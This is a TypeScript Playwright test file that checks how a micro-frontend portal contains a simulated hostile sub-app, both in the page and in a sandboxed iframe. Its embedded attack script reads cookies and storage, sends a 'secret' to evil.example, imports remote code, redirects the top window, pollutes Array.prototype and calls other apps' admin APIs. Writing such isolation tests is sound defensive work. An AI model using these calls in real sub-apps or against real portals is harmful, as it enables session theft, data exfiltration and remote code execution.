import type { Page } from 'playwright-core';
import { takePicture, rowWith, rows, openAs, startJourney, withNewVisitor } from './journey';
import type { Journey } from './journey';
import { serveSimulatedSubApp } from './simulatedSubApp';

const CAMPAIGNS = '/smartube-app/market-ui/campaigns';

// The attempts of a hostile sub-app, each reported as text: `reached …`, or the reason for its failure.
const ATTEMPTS = `
  const tries = {
    cookie: () => document.cookie,
    storage: () => localStorage.length,
    page: () => window.parent.document.title,
    top: () => { window.top.location.href = 'https://evil.example/'; return 'left'; },
    fetch: () => fetch('/api/authority/admin/getInfo').then((answer) => answer.status),
    elsewhere: () => fetch('https://evil.example/?secret').then(() => 'sent'),
    code: () => import('https://evil.example/more.js').then(() => 'loaded'),
    eval: () => Function('return 1')(),
    window: () => { const opened = window.open('about:blank'); if (!opened) throw new Error('none'); return 'opened'; },
    otherApi: () => props.portal.call({ method: 'GET', path: '/api/authority/admin/user/list', arg: { pageNum: 1 } }),
    otherApp: () => props.portal.call({ method: 'GET', path: '/api/subapp/millstone/device/list', arg: { pageNum: 1 } }),
    ownApi: () => props.portal.call({ method: 'GET', path: '/api/subapp/market-ui/campaign/list', arg: { pageNum: 1 } }),
    script: () => { props.portal.navigate('javascript:alert(1)'); props.portal.openPage('//evil.example'); return 'asked'; },
  };
  const told = {};
  for (const [name, act] of Object.entries(tries)) {
    try {
      const value = await act();
      told[name] = 'reached ' + (typeof value === 'object' ? 'data' : value);
    } catch (problem) {
      told[name] = 'refused';
    }
  }
  Array.prototype.map = function () { return ['patched']; };
  for (const rubbish of [null, 1, 'x', { kind: 'call' }, { kind: 'navigate', address: 'https://evil.example' }, { kind: 'answered', id: 1 }]) {
    window.parent.postMessage(rubbish, '*');
  }
  props.domElement.innerHTML = '<h1>played</h1><pre></pre>';
  props.domElement.querySelector('pre').textContent = JSON.stringify(told);
`;

let journey: Journey;
beforeAll(async () => {
  journey = await startJourney();
});
afterAll(async () => {
  await journey.end();
});

const enter = async (page: Page, user: string, path: string) => {
  await openAs(page, journey.portal, user, path);
};
const told = async (text: Promise<string>) => JSON.parse(await text) as Record<string, string>;

it('[APP-06] a hostile child in the portal’s page: what it can reach is what docs/subapp.md says', () =>
  withNewVisitor(journey, async (page, context) => {
    // Leaves out the attempts `top` and `window`, which would navigate the page away or open another page. They run
    // only in the sandboxed frame.
    const mount = ATTEMPTS.replace(/ {4}(top|window): .*\n/g, '').replace('Array.prototype.map', 'props.own');
    await serveSimulatedSubApp(context, 'market-ui', { mount, update: '' });
    await enter(page, 'acme-admin', CAMPAIGNS);
    await page.getByRole('heading', { name: 'played' }).waitFor();
    const reached = await told(page.locator('pre').innerText());
    expect(reached['cookie']).toContain('Admin-Token=');
    // In the portal's page, a sub-app's calls use the user's session, so the sub-app can read what the user can read.
    // The sub-app can neither send data to another site nor load code from another site.
    expect(reached).toMatchObject({ elsewhere: 'refused', code: 'refused', eval: 'refused', ownApi: 'reached data' });
    expect(page.url()).toContain(CAMPAIGNS);
  }));

it('[APP-06] one that runs apart reaches its own calls, and nothing else', () =>
  withNewVisitor(journey, async (page, context) => {
    const administrator = journey.page;
    await openAs(administrator, journey.portal, 'admin', '/system/app');
    await rows(administrator).first().waitFor();
    await rowWith(administrator, 'market-ui').getByRole('button', { name: '编辑', exact: true }).click();
    const form = administrator.locator('.ant-modal:visible');
    await form.getByRole('switch', { name: '隔离运行' }).click();
    await form.locator('.ant-btn-primary').click();
    await form.waitFor({ state: 'detached' });

    await serveSimulatedSubApp(context, 'market-ui', { mount: ATTEMPTS, update: '' });
    await enter(page, 'acme-admin', CAMPAIGNS);
    const frame = page.locator('main:visible iframe').contentFrame();
    await frame.getByRole('heading', { name: 'played' }).waitFor();
    expect(await told(frame.locator('pre').innerText())).toEqual({
      cookie: 'refused',
      storage: 'refused',
      page: 'refused',
      top: 'refused',
      fetch: 'refused',
      elsewhere: 'refused',
      code: 'refused',
      eval: 'refused',
      window: 'refused',
      otherApi: 'refused',
      otherApp: 'refused',
      ownApi: 'reached data',
      script: 'reached asked',
    });
    // The portal keeps working, with its prototypes unchanged.
    expect(page.url()).toContain(CAMPAIGNS);
    expect(await page.evaluate(() => [1].map((one) => one + 1))).toEqual([2]);
    await takePicture(page, '143-apart');
    await page.locator('aside').getByText('活动效果').click();
    await page.locator('main iframe').nth(1).contentFrame().getByRole('heading', { name: 'played' }).waitFor();
  }));
